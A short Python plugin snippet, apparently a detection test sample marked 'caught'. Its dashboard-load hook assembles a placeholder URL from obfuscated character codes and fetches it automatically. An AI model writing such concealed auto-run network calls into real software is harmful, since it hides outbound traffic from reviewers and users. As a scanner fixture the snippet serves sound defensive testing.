def on_dashboard_load(context, plugin):
    url = "".join(chr(n) for n in [104, 116, 116, 112, 115, 58, 47, 47, 101, 46, 120])  # caught
    return plugin.api.fetch(url)
